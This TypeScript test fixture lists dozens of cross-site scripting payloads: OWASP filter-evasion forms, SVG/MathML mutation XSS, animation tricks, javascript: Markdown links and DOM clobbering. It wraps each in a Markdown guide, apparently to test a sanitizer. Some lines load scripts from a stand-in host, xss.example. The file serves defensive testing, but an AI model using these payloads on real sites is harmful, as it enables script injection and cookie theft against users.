/**
 * Hostile HTML and Markdown a guide might carry, by class: OWASP filter-evasion forms, mutation XSS
 * through foreign content (SVG, MathML) and raw-text elements, SVG/MathML animation, entity and
 * whitespace obfuscation, Markdown links, DOM clobbering. Each is written into a question's Detailed
 * Answer; blank lines split a payload into separate HTML blocks, as an attacker would.
 */
export interface Payload {
  name: string;
  markdown: string;
  /** Written into a `.mdx` guide instead of `.md`. */
  mdx?: boolean;
}

const owasp: string[] = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//xss.example/x.js></SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=\`javascript:alert("RSnake says, 'XSS'")\`>`,
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.example/xss.js?< B >`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.example/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.example/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.example/xss.css>; REL=stylesheet">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<a href="javas&#99;ript:alert(1)">click</a>`,
  `<a href="&#14;javascript:alert(1)">click</a>`,
  `<a href=" javascript:alert(1)">click</a>`,
  `<a href="javascript&colon;alert(1)">click</a>`,
  `<a href="jav&Tab;ascript:alert(1)">click</a>`,
  `<a href="vbscript:msgbox(1)">click</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
  `<form action="javascript:alert(1)"><button>go</button></form>`,
  `<button formaction="javascript:alert(1)">go</button>`,
  `<details open ontoggle=alert(1)><summary>x</summary></details>`,
  `<input autofocus onfocus=alert(1)>`,
  `<select autofocus onfocus=alert(1)></select>`,
  `<textarea autofocus onfocus=alert(1)></textarea>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)></audio>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<body onpageshow=alert(1)>`,
  `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<portal src="javascript:alert(1)"></portal>`,
  `<isindex action="javascript:alert(1)" type=submit value=click>`,
  `<div style="position:fixed;inset:0" onmouseover="alert(1)">cover</div>`,
  `<span tabindex=1 onfocus=alert(1) autofocus>x</span>`,
  `<img src="x" onerror   =   "alert(1)">`,
  `<img/src="x"/onerror="alert(1)">`,
  `<img src=x onerror=alert&#40;1&#41;>`,
];

const foreignContent: string[] = [
  `<svg>\n\n<xmp>\n\n<img src=x onerror=alert(1)>\n\n</xmp>\n\n</svg>`,
  `<svg>\n\n<title>\n\n<img src=x onerror=alert(1)>\n\n</title>\n\n</svg>`,
  `<svg>\n\n<textarea>\n\n<img src=x onerror=alert(1)>\n\n</textarea>\n\n</svg>`,
  `<math>\n\n<plaintext>\n\n<img src=x onerror=alert(1)>`,
  `<svg>\n\n<noembed>\n\n<img src=x onerror=alert(1)>\n\n</noembed>`,
  `<svg>\n\n<noframes>\n\n<img src=x onerror=alert(1)>\n\n</noframes>`,
  `<svg>\n\n<style>\n\n<img src=x onerror=alert(1)>\n\n</style>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<svg><p><style><g title="</style><img src=x onerror=alert(1)>">`,
  `<select><style></select><img src=x onerror=alert(1)>`,
  `<table><style><img src=x onerror=alert(1)>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<xmp><img src=x onerror=alert(1)></xmp>`,
  `<listing><img src=x onerror=alert(1)></listing>`,
  `<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>`,
  `<svg><desc><img src=x onerror=alert(1)></desc></svg>`,
];

const animation: string[] = [
  `<svg><animate attributeName=href values="#;javascript:alert(1)" /><a><text x=20 y=20>click</text></a></svg>`,
  `<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>`,
  `<svg><set attributeName=onload to=alert(1) /></svg>`,
  `<svg><a><set attributeName=href to=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><animate xlink:href=#x attributeName=href values="javascript:alert(1)" /><a id=x><text>t</text></a></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x" /></svg>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><script href=data:,alert(1) />`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>`,
  `<math href="javascript:alert(1)">click</math>`,
  `<svg><discard onbegin=alert(1)>`,
];

const markdownLinks: string[] = [
  `[click](javascript:alert(1))`,
  `[click](JaVaScRiPt:alert(1))`,
  `[click](<javascript:alert(1)>)`,
  `[click](javascript&#58;alert(1))`,
  `[click](vbscript:msgbox(1))`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![img](javascript:alert(1))`,
  `[click][ref]\n\n[ref]: javascript:alert(1)`,
  `<javascript:alert(1)>`,
  `[click](java%0ascript:alert(1))`,
];

const clobbering: string[] = [
  `<a id="location" href="https://example.org">x</a>`,
  `<img name="getElementById" src="https://example.org/x.png">`,
  `<form id="search"><input name="action"></form>`,
  `<div id="__proto__">x</div>`,
  `<a id="pagefind">x</a>`,
];

const mdx: string[] = [
  `<img src="x" onError="alert(1)" />`,
  `<a href="javascript:alert(1)">x</a>`,
  `<svg><animate attributeName="href" values="javascript:alert(1)" /></svg>`,
  `<iframe src="javascript:alert(1)" />`,
  `<div style="background:url(javascript:alert(1))">x</div>`,
];

export const PAYLOADS: Payload[] = [
  ...owasp.map((markdown, i) => ({ name: `owasp-${i + 1}`, markdown })),
  ...foreignContent.map((markdown, i) => ({ name: `foreign-content-${i + 1}`, markdown })),
  ...animation.map((markdown, i) => ({ name: `animation-${i + 1}`, markdown })),
  ...markdownLinks.map((markdown, i) => ({ name: `markdown-link-${i + 1}`, markdown })),
  ...clobbering.map((markdown, i) => ({ name: `clobbering-${i + 1}`, markdown })),
  ...mdx.map((markdown, i) => ({ name: `mdx-${i + 1}`, markdown, mdx: true })),
];

/** A valid guide whose one question's Detailed Answer carries the payload. */
export function guideWith(payload: Payload): string {
  return `---
title: "Hostile Guide"
category: security
difficulty: beginner
estimatedReadTime: 5
tags: [security]
companies: []
frequency: rare
lastUpdated: 2025-01-01
---

# Hostile Guide

## Quick Read

A guide written by an attacker.

## Interview Questions

### Question 1: What does this page contain?
**Difficulty**: Junior  
**Category**: Security  
**Companies**: Acme | **Frequency**: Rare

**Quick Answer**: Nothing that runs.

**Detailed Answer**: The payload follows.

${payload.markdown}

Text after the payload.
`;
}
